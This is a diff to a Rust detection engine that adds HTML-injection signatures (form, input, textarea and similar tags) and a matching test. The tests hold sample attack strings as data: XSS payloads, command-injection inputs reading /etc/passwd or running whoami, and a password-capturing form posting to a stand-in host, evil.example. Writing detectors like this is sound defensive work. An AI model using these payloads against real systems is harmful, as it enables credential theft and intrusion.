@@ -213,6 +213,21 @@ const SIGS: &[Sig] = &[
     sig("<base", X, "xss.active_tag", STRONG, LA, RW),
     sig("<isindex", X, "xss.active_tag", STRONG, LA, RW),
     sig("<import", X, "xss.active_tag", STRONG, LA, RW),
+    // Markup that restructures the page or captures input (HTML injection).
+    sig("<form", X, "xss.markup_injection", STRONG, LA, RW),
+    sig("<input", X, "xss.markup_injection", STRONG, LA, RW),
+    sig("<textarea", X, "xss.markup_injection", STRONG, LA, RW),
+    sig("<button", X, "xss.markup_injection", STRONG, LA, RW),
+    sig("<xmp", X, "xss.markup_injection", STRONG, LA, RW),
+    sig("<plaintext", X, "xss.markup_injection", STRONG, LA, RW),
+    sig("<noscript", X, "xss.markup_injection", STRONG, LA, RW),
+    sig("<html", X, "xss.markup_injection", STRONG, LA, RW),
+    sig("<body", X, "xss.markup_injection", STRONG, LA, RW),
+    sig("<head", X, "xss.markup_injection", STRONG, LA, RW),
+    sig("<title", X, "xss.markup_injection", STRONG, LA, RW),
+    sig("<marquee", X, "xss.markup_injection", STRONG, LA, RW),
+    sig("<keygen", X, "xss.markup_injection", STRONG, LA, RW),
+    sig("<dialog", X, "xss.markup_injection", STRONG, LA, RW),
     sig("<layer", X, "xss.active_tag", STRONG, LA, RW),
     sig("<ilayer", X, "xss.active_tag", STRONG, LA, RW),
     sig("<bgsound", X, "xss.active_tag", STRONG, LA, RW),
@@ -1482,6 +1497,9 @@ mod tests {
         assert!(hits("aa'like-'aa").contains(&"sqli.string_break"));
         assert!(hits("<svg/onload=alert(1)>").contains(&"xss.event_handler"));
         assert!(hits("java\tscript:alert`1`").contains(&"xss.script_uri"));
+        assert!(
+            hits("<form action=//evil.example><input name=pw>").contains(&"xss.markup_injection")
+        );
         assert!(hits("; cat /etc/passwd").contains(&"cmdi.separator_command"));
         assert!(hits("a|/usr/bin/id").contains(&"cmdi.separator_command"));
         assert!(hits("$(whoami)").contains(&"cmdi.substitution"));
